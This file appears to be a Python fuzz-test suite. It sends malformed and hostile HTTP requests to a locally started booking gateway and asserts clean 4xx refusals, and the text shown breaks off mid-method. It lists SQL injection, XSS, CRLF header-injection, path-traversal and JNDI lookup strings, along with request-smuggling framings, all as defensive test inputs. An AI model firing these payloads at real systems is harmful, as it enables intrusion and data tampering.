#!/usr/bin/env python3
"""A corpus of bad requests against a live gateway (Tests/Outside/gateway.py starts it).

Oversized bodies (with Content-Length and chunked) and headers, broken UTF-8, wrong content types,
injection strings in every field, huge and negative numbers, dates and times that do not exist,
repeated and missing form keys, unknown methods and malformed bearer tokens — every citizen form,
every staff form (signed in with the staff cookie and its CSRF token) and every JSON API operation
of docs/openapi.yaml (citizen and staff, with a bearer where one is needed).

Each request must be answered with the exact 4xx chosen for it, and a body that says what was wrong:
RFC 9457 problem JSON (`type`, `title`, `status`, `detail`) on the API, the page's error summary
(`role="alert"`) on citizen and staff pages. Never a 5xx, a stack trace, an unescaped echo of a
script, an injected header, or a Set-Cookie on a refusal; the server answers /healthz after every
category, and what a refused request would have written (a booking, a course, a note, a case, a
complaint) is checked to be absent at the end.

    python3 Tests/Outside/hostile.py          # one line per category; every failure; exit 1 on any

ANONGATE_BIN picks the binary (default .build/debug/anongate). Runs in well under two minutes.
"""
import datetime
import http.client
import json
import os
import re
import socket
import sys
import time
import urllib.parse

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from gateway import PASSWORD, Gateway, next_open_morning  # noqa: E402

MAX_BODY = 64 * 1024  # GatewayRequestContext.maximumBodyBytes

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
INJECTIONS = [
    "' OR 1=1--",
    '"; DROP TABLE booking;--',
    SCRIPT,
    IMG,
    "{{x}}{{{x}}}{{>layout}}",
    "a\x00b",
    "x\r\nX-Injected: 1",
    "../../etc/passwd",
    "\u202eevil\u202c",
    "\U0001F600\U0001F3F3\ufe0f\u200d\U0001F308",
    "${jndi:ldap://example.invalid/a}",
    "A" * 20000,
]
DANGEROUS_ECHOES = [SCRIPT, "<img src=x onerror", "<svg onload"]
# Every string member any JSON operation reads.
FIELDS = [b"serviceId", b"slotId", b"ageBand", b"interpreterLanguage", b"message", b"providerId", b"about", b"text", b"use", b"username",
          b"password", b"token", b"outcome", b"reason", b"caseCode"]
STACK_TRACE = re.compile(r"Fatal error|\.swift:\d+|Traceback|stack trace|Stack dump|GRDB|SQLITE_|DatabaseError|DecodingError|NIOCore\.", re.I)


class Answer:
    def __init__(self, status, headers, body, error=None):
        self.status, self.headers, self.body, self.error = status, headers, body, error

    @property
    def text(self):
        return self.body.decode("utf-8", errors="replace")

    def short(self):
        if self.error:
            return f"no answer: {self.error}"
        kind = self.headers.get("content-type", "-")
        text = self.text
        alert = re.search(r'role="alert"[^>]*>(.*?)</div>', text, re.S)
        shown = re.sub(r"<[^>]+>", " ", alert.group(1)).strip() if alert and kind.startswith("text/html") else text[:300]
        return f"{self.status} {kind} {' '.join(shown.split())[:300]!r}"


def quote(text):
    return urllib.parse.quote(text, safe="")


def form_bytes(fields):
    return urllib.parse.urlencode(fields).encode()


class Corpus:
    def __init__(self, gw):
        self.gw = gw
        self.counts = {}
        self.order = []
        self.failures = []
        self.category = None

    # -- sending --------------------------------------------------------------------------------
    def send(self, method, path, body=None, headers=None, timeout=15):
        connection = http.client.HTTPConnection("127.0.0.1", self.gw.port, timeout=timeout)
        try:
            connection.request(method, path, body=body, headers=headers or {})
            answer = connection.getresponse()
            headers = {}
            for k, v in answer.getheaders():
                k = k.lower()
                headers[k] = headers[k] + "\n" + v if k in headers else v
            return Answer(answer.status, headers, answer.read())
        except (OSError, http.client.HTTPException) as error:
            return Answer(0, {}, b"", error=f"{type(error).__name__}: {error}")
        finally:
            connection.close()

    def raw(self, data, timeout=10):
        """Bytes as they are, on a fresh connection; answers the first response."""
        try:
            with socket.create_connection(("127.0.0.1", self.gw.port), timeout=timeout) as s:
                try:
                    s.sendall(data)
                except OSError:
                    pass  # the server may answer and close before reading everything
                received = b""
                while True:
                    try:
                        chunk = s.recv(65536)
                    except socket.timeout:
                        return Answer(0, {}, received, error="timed out (server hung)")
                    except OSError:
                        break
                    if not chunk:
                        break
                    received += chunk
                    head, sep, rest = received.partition(b"\r\n\r\n")
                    if sep:
                        length = re.search(rb"\r\ncontent-length: *(\d+)", head, re.I)
                        if length and len(rest) >= int(length.group(1)):
                            break
        except OSError as error:
            return Answer(0, {}, b"", error=f"{type(error).__name__}: {error}")
        head, _, rest = received.partition(b"\r\n\r\n")
        lines = head.split(b"\r\n")
        match = re.match(rb"HTTP/1\.[01] (\d{3})", lines[0]) if lines else None
        if not match:
            return Answer(0, {}, received, error=f"no status line: {received[:100]!r}")
        headers = {}
        for line in lines[1:]:
            k, _, v = line.decode("latin-1").partition(":")
            headers[k.strip().lower()] = v.strip()
        length = int(headers.get("content-length", len(rest)))
        return Answer(int(match.group(1)), headers, rest[:length])

    # -- checking -------------------------------------------------------------------------------
    def begin(self, category):
        self.category = category
        if category not in self.counts:
            self.counts[category] = [0, 0]
            self.order.append(category)

    def record(self, label, problems, answer=None):
        count = self.counts[self.category]
        count[0] += 1
        if problems:
            self.failures.append((self.category, label, problems, answer.short() if answer else ""))
        else:
            count[1] += 1

    def expect(self, label, answer, status, kind, *, contains=None, field=None, sent=b"", path="/"):
        """kind: problem (API), page (citizen HTML), staff (staff HTML), bare (no body asked)."""
        problems = []
        if answer.error:
            problems.append(answer.error)
        else:
            wanted = status if isinstance(status, tuple) else (status,)
            if answer.status not in wanted:
                problems.append(f"status {answer.status}, expected {' or '.join(map(str, wanted))}")
            if answer.status >= 500:
                problems.append("a 5xx")
            kind_of = answer.headers.get("content-type", "")
            if kind == "problem":
                if not kind_of.startswith("application/problem+json"):
                    problems.append(f"content-type {kind_of!r}, expected application/problem+json")
                try:
                    body = json.loads(answer.body)
                    for key in ("type", "title", "detail"):
                        if not isinstance(body.get(key), str) or not body[key]:
                            problems.append(f"problem has no {key}")
                    if not str(body.get("type", "")).startswith("urn:anongate:problem:"):
                        problems.append("problem type is not urn:anongate:problem:…")
                    if body.get("status") != answer.status:
                        problems.append(f"problem status {body.get('status')} ≠ {answer.status}")
                    if field is not None and body.get("field") not in (field if isinstance(field, tuple) else (field,)):
                        problems.append(f"problem field {body.get('field')!r}, expected {field!r}")
                    if contains and contains not in body.get("type", ""):
                        problems.append(f"problem type {body.get('type')!r}, expected …{contains}")
                except ValueError:
                    problems.append("body is not JSON")
            elif kind in ("page", "staff"):
                if not kind_of.startswith("text/html"):
                    problems.append(f"content-type {kind_of!r}, expected text/html")
                if 'role="alert"' not in answer.text:
                    problems.append('no error message (role="alert") on the page')
                if contains and contains not in answer.text:
                    problems.append(f"page does not say {contains!r}")
                if kind == "page" and "Authorization: Bearer" in answer.text:
                    problems.append("a citizen page speaks of 'Authorization: Bearer' (the API's wording)")
            if STACK_TRACE.search(answer.text):
                problems.append("a stack trace or internal name in the body")
            if "set-cookie" in answer.headers:
                problems.append(f"Set-Cookie on a refusal: {answer.headers['set-cookie'][:60]}")
            if any(k.startswith("x-injected") for k in answer.headers):
                problems.append("an injected response header")
            sent_text = sent.decode("utf-8", errors="replace") if isinstance(sent, bytes) else str(sent)
            sent_text = urllib.parse.unquote_plus(sent_text) + urllib.parse.unquote(path)
            for echo in DANGEROUS_ECHOES:
                if echo in sent_text and echo in answer.text:
                    problems.append(f"echoes {echo!r} unescaped")
        self.record(label, problems, answer)
        return answer

    def alive(self):
        self.begin(self.category)
        ok = self.gw.alive()
        self.record("GET /healthz after the category", [] if ok else ["server not alive: " + self.gw.tail(5)])
        if not ok:
            # Keep going with a fresh process on the same data (or a rebuilt binary).
            try:
                self.gw.stop(kill=True)
                self.gw.start()
                self.prepare_sessions()
            except Exception as error:  # noqa: BLE001
                print("could not restart the server:", error)
                raise

    # -- fixtures -------------------------------------------------------------------------------
    def prepare_sessions(self):
        gw = self.gw
        self.bearer = {name: gw.sign_in(name) for name in
                       ("counsellor-uturn", "counsellor-pas", "admin-pas", "admin-uturn", "manager", "auditor-pas", "phone-pas")}
        self.cookie = {name: self.page_sign_in(name) for name in ("admin-uturn", "admin-pas")}

    def page_sign_in(self, username):
        first = self.send("GET", "/staff")
        token = re.search(r'name="csrf" value="([^"]+)"', first.text).group(1)
        answer = self.send("POST", "/staff/sign-in", form_bytes([("csrf", token), ("username", username), ("password", PASSWORD)]),
                           {"Content-Type": "application/x-www-form-urlencoded", "Origin": self.gw.base})
        assert answer.status == 303, answer.short()
        cookie = answer.headers["set-cookie"].split(";")[0]
        page = self.send("GET", "/staff/schedule", headers={"Cookie": cookie})
        csrf = re.search(r'name="csrf" value="([^"]+)"', page.text).group(1)
        return cookie, csrf

    def api(self, method, path, body=None, token=None):
        headers = {"Accept": "application/json"}
        if body is not None:
            headers["Content-Type"] = "application/json"
        if token:
            headers["Authorization"] = "Bearer " + token
        answer = self.send(method, path, None if body is None else json.dumps(body).encode(), headers)
        try:
            return answer.status, json.loads(answer.body) if answer.body else None
        except ValueError:
            return answer.status, None

    def setup(self):
        gw = self.gw
        self.prepare_sessions()
        status, body = self.api("GET", "/api/v1/services/uturn/slots")
        slots = [s for s in body["slots"] if s["remaining"] >= 2]
        self.slot = slots[0]["id"]              # the time every refused booking aims at
        self.other_slot = slots[1]["id"]
        status, booked = self.api("POST", "/api/v1/bookings", {"serviceId": "uturn", "slotId": slots[2]["id"], "ageBand": "18-24"})
        assert status == 201, booked
        self.token = booked["token"]            # a live booking: cancel, move, forget, requests
        walk = lambda who, service, band: self.api("POST", "/api/v1/staff/walkins", {"serviceId": service, "ageBand": band}, self.bearer[who])
        status, body = walk("counsellor-uturn", "uturn", "18-24")
        assert status == 201, body
        self.case = body["caseCode"]
        status, body = walk("counsellor-pas", "pas", "25-plus")
        assert status == 201, body
        self.pas_case = body["caseCode"]
        status, body = walk("counsellor-uturn", "uturn", "18-24")
        closing = body["caseCode"]
        status, body = self.api("POST", f"/api/v1/staff/cases/{closing}/close", {"reason": "completed", "followUp": True}, self.bearer["counsellor-uturn"])
        assert status == 200, body
        self.follow_up = body["followUp"]["token"]  # a discharge follow-up token (opens in a month)
        day = datetime.date.fromisoformat(gw.at[:10]) + datetime.timedelta(days=7)
        status, body = self.api("POST", "/api/v1/staff/groups", {"serviceId": "uturn-parents", "seats": 10,
                                                                 "meetings": [{"date": day.isoformat(), "start": "17:00", "minutes": 90}]},
                                self.bearer["admin-uturn"])
        assert status == 201, body
        self.course = body["course"]["courseId"]
        self.baseline = self.written()

    def written(self):
        """What refused requests must not change."""
        _, slots = self.api("GET", "/api/v1/services/uturn/slots")
        remaining = {s["id"]: s["remaining"] for s in slots["slots"]}
        _, groups = self.api("GET", "/api/v1/staff/groups", token=self.bearer["admin-uturn"])
        _, notes = self.api("GET", f"/api/v1/staff/cases/{self.case}/notes", token=self.bearer["counsellor-uturn"])
        _, cases = self.api("GET", "/api/v1/staff/cases", token=self.bearer["counsellor-uturn"])
        _, pas_cases = self.api("GET", "/api/v1/staff/cases", token=self.bearer["counsellor-pas"])
        _, complaints = self.api("GET", "/api/v1/staff/complaints?status=all", token=self.bearer["manager"])
        _, current = self.api("GET", "/api/v1/bookings/current", token=self.token)
        _, case = self.api("GET", f"/api/v1/staff/cases/{self.case}", token=self.bearer["counsellor-uturn"])
        return {
            "remaining of the target slot": remaining.get(self.slot),
            "remaining of the other slot": remaining.get(self.other_slot),
            "group courses": [(c["courseId"], c["seated"], len(c["meetings"])) for c in groups["courses"]],
            "notes on the case": len(notes["notes"]),
            "open cases (uturn)": sorted(c["caseCode"] for c in cases["cases"]),
            "open cases (kk-pas)": sorted(c["caseCode"] for c in pas_cases["cases"]),
            "complaints": len(complaints["complaints"]),
            "the live booking": (current or {}).get("booking", {}).get("slotId"),
            "the case": (case or {}).get("case", {}).get("status"),
        }

    # -- request helpers ------------------------------------------------------------------------
    def citizen_form(self, label, path, fields, status, contains=None, content_type="application/x-www-form-urlencoded", raw_body=None):
        body = raw_body if raw_body is not None else form_bytes(fields)
        headers = {"Origin": self.gw.base}
        if content_type:
            headers["Content-Type"] = content_type
        answer = self.send("POST", path, body, headers)
        kind = "bare" if status == 200 else "page"
        return self.expect(f"POST {path} {label}", answer, status, kind, contains=contains, sent=body, path=path)

    def staff_form(self, label, path, fields, status, who="admin-uturn", contains=None, content_type="application/x-www-form-urlencoded",
                   raw_body=None, csrf=True):
        cookie, token = self.cookie[who]
        body = raw_body if raw_body is not None else form_bytes(([("csrf", token)] if csrf else []) + list(fields))
        headers = {"Origin": self.gw.base, "Cookie": cookie}
        if content_type:
            headers["Content-Type"] = content_type
        answer = self.send("POST", path, body, headers)
        return self.expect(f"POST {path} {label}", answer, status, "staff", contains=contains, sent=body, path=path)

    def staff_get(self, label, path, status, who="admin-uturn", contains=None):
        cookie, _ = self.cookie[who]
        answer = self.send("GET", path, headers={"Cookie": cookie})
        return self.expect(f"GET {path} {label}", answer, status, "staff", contains=contains, path=path)

    def json_call(self, label, method, path, body, status, token=None, field=None, contains=None, raw_body=None,
                  content_type="application/json", extra=None):
        data = raw_body if raw_body is not None else (None if body is None else json.dumps(body).encode())
        headers = {"Accept": "application/json"}
        if content_type and data is not None:
            headers["Content-Type"] = content_type
        if token:
            headers["Authorization"] = "Bearer " + token
        headers.update(extra or {})
        answer = self.send(method, path, data, headers)
        shown = data if data is None or len(data) < 200 else data[:200] + b"..."
        return self.expect(f"{method} {path} {label} {shown!r}" if data is not None else f"{method} {path} {label}", answer, status,
                           "problem", field=field, contains=contains, sent=data or b"", path=path)

    # -- the routes -----------------------------------------------------------------------------
    def citizen_posts(self):
        """Every citizen form: (path, fields that make it otherwise valid or nearly so)."""
        return [
            ("/book/questions", [("lang", "en"), ("service", "uturn")]),
            ("/book/times", [("lang", "en"), ("service", "uturn"), ("ageBand", "18-24")]),
            ("/book/details", [("lang", "en"), ("service", "uturn"), ("ageBand", "18-24"), ("slot", self.slot)]),
            ("/book/confirm", [("lang", "en"), ("service", "uturn"), ("ageBand", "18-24"), ("slot", self.slot)]),
            ("/book", [("lang", "en"), ("service", "uturn"), ("ageBand", "18-24"), ("slot", self.slot)]),
            ("/book/done", [("lang", "en"), ("token", self.token)]),
            ("/booking/calendar.ics", [("lang", "en"), ("slot", self.slot)]),
            ("/booking", [("lang", "en"), ("token", self.token)]),
            ("/booking/cancel", [("lang", "en"), ("token", self.token)]),
            ("/booking/requests", [("lang", "en"), ("token", self.token)]),
            ("/booking/move", [("lang", "en"), ("token", self.token)]),
            ("/booking/move/confirm", [("lang", "en"), ("token", self.token)]),
            ("/booking/forget", [("lang", "en"), ("token", self.token)]),
            ("/booking/forget/confirm", [("lang", "en"), ("token", self.token)]),
            ("/complaints", [("lang", "en"), ("providerId", "uturn"), ("about", "service")]),
            ("/complaints/language", [("lang", "en"), ("providerId", "uturn")]),
            ("/follow-up", [("lang", "en"), ("token", self.follow_up)]),
        ]

    def staff_posts(self):
        return [
            ("/staff/sign-out", "admin-uturn"),
            ("/staff/checkin", "admin-uturn"), ("/staff/walkin", "admin-uturn"), ("/staff/phone", "admin-uturn"),
            (f"/staff/cases/{self.case}/notes", "admin-uturn"), (f"/staff/cases/{self.case}/bookings", "admin-uturn"),
            (f"/staff/cases/{self.case}/follow-up", "admin-uturn"), (f"/staff/cases/{self.case}/no-show", "admin-uturn"),
            (f"/staff/cases/{self.pas_case}/decision", "admin-pas"), (f"/staff/cases/{self.case}/close", "admin-uturn"),
            (f"/staff/cases/{self.case}/handover", "admin-uturn"), ("/staff/groups", "admin-uturn"),
            (f"/staff/groups/{self.course}/seats", "admin-uturn"), (f"/staff/groups/{self.course}/attendance", "admin-uturn"),
            ("/staff/complaints/ABCD-EFGH/handled", "admin-pas"),
        ]

    def api_posts(self):
        """(method, path, bearer) of every JSON operation that takes a body."""
        b = self.bearer
        return [
            ("POST", "/api/v1/bookings", None), ("POST", "/api/v1/bookings/current/reschedule", self.token),
            ("POST", "/api/v1/bookings/current/requests", self.token), ("POST", "/api/v1/complaints", None),
            ("POST", "/api/v1/follow-ups", self.follow_up), ("POST", "/api/v1/staff/sessions", None),
            ("POST", "/api/v1/staff/checkins", b["counsellor-uturn"]), ("POST", "/api/v1/staff/walkins", b["counsellor-uturn"]),
            ("POST", "/api/v1/staff/bookings", b["phone-pas"]), ("POST", f"/api/v1/staff/cases/{self.case}/bookings", b["counsellor-uturn"]),
            ("POST", f"/api/v1/staff/cases/{self.case}/notes", b["counsellor-uturn"]),
            ("POST", f"/api/v1/staff/cases/{self.pas_case}/decision", b["counsellor-pas"]),
            ("POST", f"/api/v1/staff/cases/{self.case}/close", b["counsellor-uturn"]),
            ("POST", f"/api/v1/staff/cases/{self.case}/handover", b["counsellor-uturn"]),
            ("POST", "/api/v1/staff/groups", b["admin-uturn"]), ("POST", f"/api/v1/staff/groups/{self.course}/seats", b["counsellor-uturn"]),
            ("POST", f"/api/v1/staff/groups/{self.course}/meetings/1/attendance", b["counsellor-uturn"]),
        ]

    # ============================================================================================
    def oversized_bodies(self):
        self.begin("oversized bodies (64 KiB + 1, Content-Length and chunked)")
        big_form = b"message=" + b"x" * (MAX_BODY + 1 - len(b"message="))
        big_json = b'{"message":"' + b"x" * (MAX_BODY + 1 - 14) + b'"}'
        assert len(big_form) == MAX_BODY + 1

        def chunked(path, body, content_type, extra=b""):
            pieces = b"".join(b"%x\r\n%s\r\n" % (len(body[i:i + 8192]), body[i:i + 8192]) for i in range(0, len(body), 8192))
            return self.raw(b"POST " + path.encode() + b" HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: " + content_type + b"\r\n" + extra
                            + b"Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n" + pieces + b"0\r\n\r\n")

        def declared(path, content_type, extra=b""):
            # Only the headers, announcing 10 MB: answered from the Content-Length alone, without waiting.
            return self.raw(b"POST " + path.encode() + b" HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: " + content_type + b"\r\n" + extra
                            + b"Content-Length: 10485760\r\nConnection: close\r\n\r\n", timeout=5)

        for path, _ in self.citizen_posts():
            answer = self.send("POST", path, big_form, {"Content-Type": "application/x-www-form-urlencoded"})
            self.expect(f"POST {path} form of 64 KiB + 1 (Content-Length)", answer, 413, "page")
            self.expect(f"POST {path} form of 64 KiB + 1 (chunked)", chunked(path, big_form, b"application/x-www-form-urlencoded"), 413, "page")
            self.expect(f"POST {path} Content-Length: 10 MB, no body", declared(path, b"application/x-www-form-urlencoded"), 413, "page")
        for path, who in self.staff_posts():
            cookie = self.cookie[who][0].encode()
            answer = self.send("POST", path, big_form, {"Content-Type": "application/x-www-form-urlencoded", "Cookie": cookie.decode()})
            self.expect(f"POST {path} staff form of 64 KiB + 1 (Content-Length)", answer, 413, "staff")
            self.expect(f"POST {path} staff form of 64 KiB + 1 (chunked)",
                        chunked(path, big_form, b"application/x-www-form-urlencoded", b"Cookie: " + cookie + b"\r\n"), 413, "staff")
        cookie, csrf = self.cookie["admin-uturn"]
        answer = self.send("POST", "/staff/sign-in", big_form, {"Content-Type": "application/x-www-form-urlencoded"})
        self.expect("POST /staff/sign-in form of 64 KiB + 1", answer, 413, "staff")
        for method, path, token in self.api_posts():
            auth = {"Authorization": "Bearer " + token} if token else {}
            answer = self.send(method, path, big_json, {"Content-Type": "application/json", **auth})
            self.expect(f"{method} {path} JSON of 64 KiB + 1 (Content-Length)", answer, 413, "problem", path=path)
            extra = b"".join(b"%s: %s\r\n" % (k.encode(), v.encode()) for k, v in auth.items())
            self.expect(f"{method} {path} JSON of 64 KiB + 1 (chunked)", chunked(path, big_json, b"application/json", extra), 413, "problem")
            self.expect(f"{method} {path} Content-Length: 10 MB, no body", declared(path, b"application/json", extra), 413, "problem")
        # The limit is the limit: a form of exactly 64 KiB is read (and refused for what it says, not its size).
        exact = b"lang=en&service=uturn&message=" + b"x" * (MAX_BODY - 30)
        answer = self.send("POST", "/book/times", exact, {"Content-Type": "application/x-www-form-urlencoded"})
        self.expect("POST /book/times form of exactly 64 KiB (missing ageBand, not too large)", answer, 400, "page", contains="age")
        self.alive()

    def oversized_headers(self):
        self.begin("oversized headers, URL, many headers (raw socket)")
        head = lambda target, extra=b"": b"GET " + target + b" HTTP/1.1\r\nHost: 127.0.0.1\r\n" + extra + b"Connection: close\r\n\r\n"
        # Over NIO's parser limits (about 80 KB of headers, 1000 header lines, the request line included)
        # the server answers 400 with an empty body and closes: swift-nio's HTTPServerProtocolErrorHandler
        # answers every parser error so, and 431/414 would need our own channel handler. Accepted and
        # stated in SECURITY.md ("Web hardening"); what is asserted is the refusal and the server alive.
        for path in (b"/healthz", b"/", b"/api/v1/services", b"/staff/schedule"):
            self.expect(f"GET {path.decode()} with one 100 KB header", self.raw(head(path, b"X-Big: " + b"a" * 100_000 + b"\r\n")), 400, "bare")
            self.expect(f"GET {path.decode()} with 2000 headers",
                        self.raw(head(path, b"".join(b"X-H%d: v\r\n" % i for i in range(2000)))), 400, "bare")
            self.expect(f"GET {path.decode()} with a 100 KB URL", self.raw(head(path + b"?q=" + b"a" * 100_000)), 400, "bare")
        self.expect("GET /staff/schedule with a 100 KB cookie", self.raw(head(b"/staff/schedule", b"Cookie: anongate_staff=" + b"a" * 100_000 + b"\r\n")),
                    400, "bare")
        self.expect("POST /api/v1/bookings with a 100 KB Content-Type",
                    self.raw(b"POST /api/v1/bookings HTTP/1.1\r\nHost: x\r\nContent-Type: application/json;" + b"a" * 100_000
                             + b"\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}"), 400, "bare")
        # Headers the parser must refuse (RFC 9112): a framing it cannot trust is a 400, and the connection ends.
        post = lambda extra, body=b"{}": self.raw(b"POST /api/v1/bookings HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n" + extra
                                                  + b"Connection: close\r\n\r\n" + body)
        self.expect("POST Content-Length: abc", post(b"Content-Length: abc\r\n"), 400, "bare")
        self.expect("POST Content-Length: -5", post(b"Content-Length: -5\r\n"), 400, "bare")
        self.expect("POST Content-Length: 2^64", post(b"Content-Length: 18446744073709551616\r\n"), 400, "bare")
        self.expect("POST two different Content-Lengths", post(b"Content-Length: 2\r\nContent-Length: 7\r\n"), 400, "bare")
        self.expect("POST Content-Length and chunked", post(b"Content-Length: 2\r\nTransfer-Encoding: chunked\r\n"), 400, "bare")
        self.expect("POST bad chunk size", post(b"Transfer-Encoding: chunked\r\n", b"zz\r\n{}\r\n0\r\n\r\n"), 400, "bare")
        self.expect("GET header with a NUL", self.raw(head(b"/healthz", b"X-A: a\x00b\r\n")), 400, "bare")
        self.expect("GET header name with a space", self.raw(head(b"/healthz", b"X A: b\r\n")), 400, "bare")
        self.expect("GET request line garbage", self.raw(b"GARBAGE\r\n\r\n"), 400, "bare")
        self.expect("GET HTTP/9.9", self.raw(b"GET /healthz HTTP/9.9\r\nHost: x\r\n\r\n"), (400, 505), "bare")
        self.alive()

    def broken_utf8(self):
        self.begin("broken UTF-8 (form, JSON, query, path)")
        invalid = "Formularen er ikke gyldig UTF-8"
        for path, fields in self.citizen_posts():
            body = form_bytes(fields) + b"&message=%s" % b"\xff\xfe\xc3\x28"
            self.citizen_form("raw bytes FF FE C3 28", path, None, 400, contains="UTF-8", raw_body=body)
            body = form_bytes(fields[:1]) + b"&" + fields[1][0].encode() + b"=%FF%FE%C3%28"
            self.citizen_form(f"{fields[1][0]}=%FF%FE (percent-encoded, invalid once decoded)", path, None, 400, contains="UTF-8", raw_body=body)
        for path, who in self.staff_posts():
            self.staff_form("raw bytes FF FE", path, None, 400, who=who, raw_body=form_bytes([("csrf", self.cookie[who][1])]) + b"&x=\xff\xfe")
        for method, path, token in self.api_posts():
            self.json_call("raw bytes FF FE in every string", method, path, None, 400, token=token, contains="malformed-json",
                           raw_body=b"{" + b",".join(b'"%s":"\xff\xfe"' % k for k in FIELDS) + b"}")
            self.json_call("raw bytes FF FE in a member the route ignores", method, path, None, 400, token=token, raw_body=b'{"x":"\xff\xfe"}',
                           contains="malformed-json")
            self.json_call("overlong encoding of '/' in an ignored member", method, path, None, 400, token=token, raw_body=b'{"x":"\xc0\xaf"}',
                           contains="malformed-json")
        for query in ("from=%FF%FE", "from=2026-12-%FF", "days=%FF"):
            self.json_call(f"?{query}", "GET", f"/api/v1/services/uturn/slots?{query}", None, 400)
        self.json_call("serviceId %FF", "GET", "/api/v1/services/%FF%FE/slots", None, 404, field="serviceId")
        b = self.bearer
        self.json_call("?date=%FF", "GET", "/api/v1/staff/schedule?date=%FF%FE", None, 400, token=b["counsellor-uturn"], field="date")
        self.json_call("?from=%FF", "GET", "/api/v1/stats?from=%FF&to=2026-12", None, 400, token=b["manager"], field="from")
        self.json_call("?from=%FF", "GET", "/api/v1/staff/access-log?from=%FF%FE", None, 400, token=b["auditor-pas"], field="from")
        self.json_call("?caseCode=%FF", "GET", "/api/v1/staff/access-log?caseCode=%FF%FE", None, 404, token=b["auditor-pas"], field="caseCode")
        self.json_call("?status=%FF", "GET", "/api/v1/staff/complaints?status=%FF%FE", None, 400, token=b["manager"], field="status")
        self.json_call("caseCode %FF", "GET", "/api/v1/staff/cases/%FF%FE", None, 404, token=b["counsellor-uturn"], field="caseCode")
        self.json_call("?forget=%FF", "DELETE", "/api/v1/bookings/current?forget=%FF", None, 400, token=self.token, field="forget")
        self.staff_get("?from=%FF", "/staff/access-log?from=%FF%FE", 400, who="admin-pas")
        self.staff_get("?from=%FF", "/staff/figures?from=%FF%FE&to=2026-12", 400, who="admin-pas")
        self.staff_get("caseCode %FF", "/staff/cases/%FF%FE", 404)
        # Raw (not percent-encoded) bytes in the request target.
        self.expect("GET raw FF in the query", self.raw(b"GET /api/v1/services/uturn/slots?from=\xff\xfe HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
                    400, "bare")
        self.expect("GET raw FF in the path", self.raw(b"GET /api/v1/services/\xff\xfe/slots HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
                    (400, 404), "bare")
        self.alive()

    def content_types(self):
        self.begin("wrong or missing Content-Type")
        for method, path, token in self.api_posts():
            citizen = "/staff/" not in path
            if not citizen:
                # The staff API reads its body as JSON whatever the label says (a bearer cannot be sent cross-site):
                # a form body there is malformed JSON.
                self.json_call("form body as form", method, path, None, 400, token=token, raw_body=b"serviceId=uturn&ageBand=18-24",
                               content_type="application/x-www-form-urlencoded", contains="malformed-json")
                continue
            for content_type in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/jsonx",
                                 "application/xml", "", None):
                label = f"Content-Type {content_type!r}"
                headers = {"Accept": "application/json", **({"Authorization": "Bearer " + token} if token else {})}
                if content_type is not None:
                    headers["Content-Type"] = content_type
                answer = self.send(method, path, b'{"serviceId":"uturn","slotId":"%s","ageBand":"18-24"}' % self.slot.encode(), headers)
                self.expect(f"{method} {path} {label}", answer, 415, "problem", path=path)
        for path, fields in self.citizen_posts():
            for content_type in ("application/json", "text/plain", "multipart/form-data; boundary=x", None):
                body = json.dumps(dict(fields)).encode() if content_type == "application/json" else form_bytes(fields)
                self.citizen_form(f"Content-Type {content_type!r}", path, None, 415, content_type=content_type, raw_body=body)
        for path, who in self.staff_posts():
            cookie, csrf = self.cookie[who]
            self.staff_form("Content-Type application/json", path, None, 415, who=who, content_type="application/json",
                            raw_body=json.dumps({"csrf": csrf}).encode())
        self.alive()

    # -- injection ------------------------------------------------------------------------------
    def injections(self):
        self.begin("injection strings in every field")
        today = self.gw.at[:10]
        for value in INJECTIONS:
            v = value
            c = [("lang", "en"), ("service", "uturn"), ("ageBand", "18-24")]
            # Citizen forms: the field at fault, or (for free text and the lenient `lang`/`from`) the text
            # beside a required field left out; either way refused, and shown escaped if shown at all.
            self.citizen_form("service=<inj>", "/book/questions", [("lang", "en"), ("service", v)], 404)
            self.citizen_form("lang=<inj> without service", "/book/questions", [("lang", v)], 400)
            self.citizen_form("ageBand=<inj>", "/book/times", [("lang", "en"), ("service", "uturn"), ("ageBand", v)], 400)
            self.citizen_form("substances=<inj>", "/book/times", [("lang", "en"), ("service", "pas"), ("ageBand", "25-plus"),
                                                                  ("substances", v), ("otherSupport", "no")], 400)
            self.citizen_form("otherSupport=<inj>", "/book/times", [("lang", "en"), ("service", "pas"), ("ageBand", "25-plus"),
                                                                    ("substances", "cocaine"), ("otherSupport", v)], 400)
            self.citizen_form("enrolled=<inj>", "/book/times", [("lang", "en"), ("service", "relatives"), ("ageBand", "25-plus"),
                                                                ("enrolled", v)], 400)
            self.citizen_form("from=<inj> without ageBand", "/book/times", [("lang", "en"), ("service", "uturn"), ("from", v)], 400)
            self.citizen_form("slot=<inj>", "/book/details", c + [("slot", v)], 404)
            self.citizen_form("slot=<inj>", "/book/confirm", c + [("slot", v)], 404)
            self.citizen_form("message=<inj> with a wrong slot", "/book/confirm", c + [("slot", "x"), ("message", v)], 404)
            self.citizen_form("interpreterLanguageOther=<inj> with a wrong slot", "/book/confirm",
                              c + [("slot", "x"), ("interpreterLanguage", "other"), ("interpreterLanguageOther", v)], 404)
            self.citizen_form("nonce=<inj>", "/book", c + [("slot", self.slot), ("nonce", v)], 400)
            self.citizen_form("token=<inj>", "/book/done", [("lang", "en"), ("token", v)], 400)
            self.citizen_form("saved=<inj> and token=<inj>", "/book/done", [("lang", "en"), ("saved", v), ("token", v)], 400)
            self.citizen_form("slot=<inj>", "/booking/calendar.ics", [("lang", "en"), ("slot", v)], 404)
            for path in ("/booking", "/booking/cancel", "/booking/requests", "/booking/move", "/booking/move/confirm", "/booking/forget",
                         "/booking/forget/confirm", "/follow-up"):
                self.citizen_form("token=<inj>", path, [("lang", "en"), ("token", v)], 400)
            self.citizen_form("confirm=<inj>", "/booking/cancel", [("lang", "en"), ("token", self.token), ("confirm", v)], 400)
            self.citizen_form("confirm=<inj>", "/booking/forget/confirm", [("lang", "en"), ("token", self.token), ("confirm", v)], 400)
            self.citizen_form("slot=<inj>", "/booking/move/confirm", [("lang", "en"), ("token", self.token), ("slot", v)], 404)
